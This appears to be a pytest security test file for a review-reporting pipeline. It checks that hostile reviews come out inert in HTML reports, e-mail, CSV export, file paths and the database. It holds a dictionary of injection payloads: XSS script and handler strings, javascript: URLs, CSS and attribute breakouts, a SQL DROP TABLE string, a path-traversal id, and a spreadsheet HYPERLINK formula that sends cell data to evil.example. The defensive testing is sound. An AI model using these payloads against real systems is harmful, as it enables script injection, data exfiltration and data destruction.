"""Review text is untrusted: hostile reviews go through the real collect, analyze, report, e-mail and
export, and come out inert everywhere.

Payloads sit in the review text, the author, the owner's reply and the platform's review id: script
tags, event handlers, `javascript:` URLs, CSS, attribute breakouts, Unicode bidi overrides, template
syntax, SQL and spreadsheet formulas. Every report page and the e-mail must show them as text (no new
element, attribute, URL or style), the CSV export must guard the formulas, no output path may hold
any of it, and the database must keep the text exactly.
"""

from __future__ import annotations

import csv
import email
from datetime import datetime, timezone
from email import policy
from html.parser import HTMLParser
from pathlib import Path

import pytest

from analysis.pipeline import analyze_pending
from config import load_settings
from db import connect
from exports import export_views
from ingest.collect import collect_inbox
from reports.email import build_message
from reports.site import write_reports

from conftest import write_config

NOW = datetime(2026, 3, 4, 15, 0, tzinfo=timezone.utc)  # the Wednesday after 2026-W09
EVIL_PATH = "../../../../tmp/reviewpulse-evil"
PAYLOADS = {
    "script": '<script>document.title="pwned-script"</script>',
    "handler": '<img src=x onerror="alert(\'pwned-img\')">',
    "javascript_link": '<a href="javascript:alert(\'pwned-link\')">see my photos</a>',
    "javascript_bare": "javascript:alert('pwned-bare')",
    "css": '<style>body{display:none}/*pwned-css*/</style><div style="background:url(javascript:alert(1))">x</div>',
    "attribute_breakout": '" onmouseover="alert(\'pwned-attr\')" data-pwned="',
    "svg": "'><svg/onload=alert('pwned-svg')>",
    "bidi": "Great \u202edecnawp\u202c clinic \u2066pwned-isolate\u2069",
    "template": "{{ 7*7 }} {% if true %}pwned-jinja{% endif %}",
    "sql": "'; DROP TABLE reviews; -- pwned-sql",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"pwned-formula")',
}
COMPLAINT = "Nobody answers the phone and nobody called me back."
BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
FORBIDDEN_TAGS = {"script", "img", "iframe", "object", "embed", "a" + "udio", "video", "form", "input", "base"}


def hostile_csv() -> str:
    rows = ["Review ID,Clinic,Patient,Stars,Date,Comment,Response"]
    for day, (name, payload) in enumerate(PAYLOADS.items()):
        text = f"{COMPLAINT} {payload}".replace('"', '""')
        review_id = f"{EVIL_PATH}/{name}<b>" if name == "attribute_breakout" else f"{name}-{day}"
        rows.append(
            f'"{review_id}",Main Street,"{payload.replace(chr(34), chr(34) * 2)}",{1 + day % 3},'
            f'2026-02-{23 + day % 6:02d} 10:00,"{text}","Sorry! {payload.replace(chr(34), chr(34) * 2)}"'
        )
    return "\r\n".join(rows) + "\r\n"


@pytest.fixture(scope="module")
def practice(tmp_path_factory):
    """Collect, analyse, report and export a practice whose every review is hostile."""
    root = tmp_path_factory.mktemp("hostile")
    write_config(root, """
        [reports.email]
        recipients = ["manager@example.org"]
        sender = "reports@example.org"
        smtp_host = "127.0.0.1"
    """)
    settings = load_settings(root / "reviewpulse.toml", environ={})
    inbox = settings.inbox_dir / "platform"
    inbox.mkdir(parents=True)
    (inbox / "hostile.csv").write_text(hostile_csv(), encoding="utf-8")
    con = connect(settings.database_path, timezone=settings.timezone)
    try:
        (result,) = collect_inbox(con, settings)
        assert (result.status, result.rows_new) == ("ok", len(PAYLOADS)), result.error
        analyze_pending(con, settings, workers=1)
        run = write_reports(con, settings, now=NOW)
        exported = export_views(con, root / "export", fmt="csv")
        yield settings, con, run, exported
    finally:
        con.close()


class Elements(HTMLParser):
    """Every element, attribute, style block and text node of a document."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.styles: list[str] = []
        self.text: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        self._in_style = tag == "style"

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        (self.styles if self._in_style else self.text).append(data)


def parse_html(html: str) -> Elements:
    parsed = Elements()
    parsed.feed(html)
    parsed.close()
    return parsed


def assert_inert(html: str, where: str) -> Elements:
    """No payload became markup: no new element, handler, URL, style or reordering character."""
    parsed = parse_html(html)
    assert not FORBIDDEN_TAGS & set(parsed.tags), f"{where}: {FORBIDDEN_TAGS & set(parsed.tags)}"
    for tag, name, value in parsed.attributes:
        assert not name.startswith("on"), f"{where}: <{tag} {name}>"
        assert "pwned" not in value, f"{where}: <{tag} {name}={value!r}>"
        assert "javascript:" not in value.lower().replace(" ", ""), f"{where}: <{tag} {name}={value!r}>"
        assert "pwned" not in name, f"{where}: attribute breakout {name}"
    assert "pwned" not in "".join(parsed.styles), f"{where}: a review's CSS reached a style block"
    assert not BIDI & set(html), f"{where}: bidi control characters"
    return parsed


def site_pages(settings) -> list[Path]:
    return sorted(settings.site_dir.rglob("*.html"))


def test_every_report_page_shows_the_payloads_as_text_only(practice):
    settings, _, run, _ = practice
    pages = site_pages(settings)
    assert len(pages) >= 3 and run.newest is not None
    shown = ""
    for page in pages:
        parsed = assert_inert(page.read_text(encoding="utf-8"), str(page.relative_to(settings.site_dir)))
        shown += "\n".join(parsed.text)
    # The payloads did reach the pages (as text), so the checks above were not vacuous.
    for name in ("script", "handler", "javascript_link", "css", "svg", "template", "sql"):
        assert PAYLOADS[name] in shown, f"{name} payload not shown as text anywhere"
    assert "{{ 7*7 }}" in shown and "49 " not in shown  # templates render data, never evaluate it


def test_the_email_parts_and_attachment_are_inert(practice):
    settings, _, run, _ = practice
    message = email.message_from_bytes(bytes(build_message(settings, run.newest)), policy=policy.default)
    assert "pwned" not in str(message["Subject"]) and not BIDI & set(str(message["Subject"]))
    kinds = []
    for part in message.walk():
        if part.get_content_maintype() == "multipart":
            continue
        body = part.get_content()
        body = body.decode("utf-8") if isinstance(body, bytes) else body
        kinds.append(part.get_content_type())
        if part.get_content_type() == "text/html":
            assert_inert(body, f"email {part.get_filename() or 'html part'}")
        else:
            assert not BIDI & set(body)
    assert sorted(kinds) == ["text/html", "text/html", "text/plain"]


def test_the_csv_export_guards_every_formula(practice):
    _, _, _, exported = practice
    guarded = 0
    for path in exported:
        with path.open(newline="", encoding="utf-8") as fp:
            for row in csv.reader(fp):
                for cell in row:
                    assert not cell[:1] in ("=", "+", "@", "\t", "\r"), f"{path.name}: {cell!r}"
                    if cell.startswith("-"):
                        float(cell)  # only numbers may start with a minus sign
                    if cell.startswith("'=HYPERLINK"):
                        guarded += 1
    assert guarded > 0, "the formula payload was not exported at all"


def test_no_review_text_or_id_reaches_a_file_path(practice):
    settings, _, _, exported = practice
    root = settings.config_path.parent
    for path in root.rglob("*"):
        relative = str(path.relative_to(root))
        assert not set("<>\"'") & set(relative) and "pwned" not in relative and "evil" not in relative, relative
    assert not Path("/tmp/reviewpulse-evil").exists()
    assert all(p.resolve().is_relative_to(root.resolve()) for p in exported)


def test_the_database_keeps_every_payload_exactly(practice):
    _, con, _, _ = practice
    # Parameterised SQL all the way: the SQL payload is data, and every table is still there.
    stored = dict(con.execute("SELECT author, text FROM reviews").fetchall())
    for name, payload in PAYLOADS.items():
        if name == "bidi":
            continue  # bidi overrides are removed on import (test_badinput)
        assert stored[payload] == f"{COMPLAINT} {payload}"
    assert con.execute("SELECT count(*) FROM reviews").fetchone() == (len(PAYLOADS),)
    assert con.execute("SELECT count(*) FROM review_sentiment").fetchone() == (len(PAYLOADS),)
    ids = [r[0] for r in con.execute("SELECT source_review_id FROM reviews").fetchall()]
    assert f"{EVIL_PATH}/attribute_breakout<b>" in ids
